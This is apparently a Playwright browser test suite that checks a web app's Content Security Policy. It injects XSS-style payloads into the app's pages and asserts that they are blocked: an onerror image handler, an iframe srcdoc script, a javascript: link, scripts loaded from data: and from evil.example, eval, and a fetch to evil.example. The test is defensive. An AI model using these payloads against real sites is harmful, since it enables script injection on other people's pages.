"""The content policy in a real browser: it breaks none of the app's pages, and stops what does not belong in them."""

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Page

from tests.browser.serving import serving
from tests.browser_fixture import log_in
from tests.ui.app_parts import app_of, comparison, rounds_port
from tests.ui.intent_parts import recording
from tests.ui.rounds_parts import alarmed, lessons
from tests.ui.soup_parts import soup_port

pytestmark = pytest.mark.browser
WATCH = """window.violations = [];
document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`))"""
HTML = (
    '<img src=x onerror="window.pwned=3">',
    '<div id=over style="position:fixed;inset:0">x</div>',
    '<iframe srcdoc="<script>parent.pwned=4</script>"></iframe>',
    '<object data="/page/app.css"></object>',
    '<img src="https://evil.example/pixel.png">',
    '<a href="javascript:window.pwned=5" id=go>x</a>',
)
ATTACKS = """async (html) => {
  const before = violations.length;
  const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
  add('script', { textContent: 'window.pwned = 1' });
  add('script', { src: 'data:text/javascript,window.pwned=2' });
  add('script', { src: 'https://evil.example/x.js' });
  add('style', { textContent: 'body { display: none }' });
  html.forEach((each) => document.body.insertAdjacentHTML('beforeend', each));
  document.querySelector('#go').click();
  setTimeout(() => { window.pwned = eval('6'); }); // later: what the test itself evaluates may evaluate
  setTimeout(() => { new Function('window.pwned = 7')(); });
  await fetch('https://evil.example').catch(() => 0);
  await new Promise((done) => setTimeout(done, 500));
  return {
    pwned: window.pwned, shown: getComputedStyle(document.body).display,
    over: getComputedStyle(document.querySelector('#over')).position,
    stopped: violations.slice(before).map((each) => each.split(' ')[0]),
  };
}"""
STOPPED = {
    *("script-src-elem", "script-src-attr", "script-src", "style-src-elem", "style-src-attr"),
    *("img-src", "connect-src", "object-src"),
}
PAGES = {
    "/": ".fl-card",
    "/rounds": "#fl-start",
    "/soup": ".fl-soup-gains",
    "/intent": "[data-part='likely']",
    "/team": "#fl-team h1",
    "/chat": "#fl-chat textarea",
    "/help": "#fl-help table",
    "/login": "form button",
}


@pytest.fixture
def url(tmp_path: Path) -> Iterator[str]:
    app, journal = app_of(
        tmp_path,
        [comparison(n) for n in range(4)],
        rounds=replace(rounds_port(overview=alarmed()), taught=lessons),
        soup=soup_port(),
        intent=recording([]),
    )
    with serving(app) as address:
        yield address
    journal.close()


def test_no_page_is_stopped_in_anything_and_each_works(page: Page, url: str):
    said: list[str] = []
    page.add_init_script(WATCH)
    page.on(
        "console",  # who types before a field has its focus is told so, as information
        lambda message: said.append(f"{message.type}: {message.text}") if message.type != "info" else None,
    )
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on(
        "request",
        lambda request: said.append(f"asked {request.url}") if not request.url.startswith((url, "data:")) else None,
    )
    page.on("response", lambda answer: said.append(f"{answer.status} {answer.url}") if answer.status >= 400 else None)
    log_in(page, url)
    for path, there in PAGES.items():
        page.goto(url + path)
        page.locator(there).first.wait_for()
        page.wait_for_load_state("networkidle")
        assert page.evaluate("violations") == [], path
    assert said == []


@pytest.mark.parametrize("path", ["/", "/login"])
def test_what_does_not_belong_in_a_page_does_not_run(page: Page, url: str, path: str):
    page.add_init_script(WATCH)
    log_in(page, url)
    page.goto(url + path)
    page.locator(PAGES[path]).first.wait_for()
    seen = page.evaluate(ATTACKS, HTML)
    assert seen["pwned"] is None
    assert seen["shown"] != "none"
    assert seen["over"] == "static"
    assert set(seen["stopped"]) >= STOPPED


def test_a_page_of_another_site_cannot_show_the_app_inside_itself(page: Page, url: str):
    log_in(page, url)
    other = url.replace("127.0.0.1", "localhost")
    page.route(
        f"{other}/outer", lambda route: route.fulfill(body=f"<iframe src='{url}/'></iframe>", content_type="text/html")
    )
    page.goto(f"{other}/outer")
    page.wait_for_timeout(1000)
    assert page.frames[1].locator("#fl-label").count() == 0
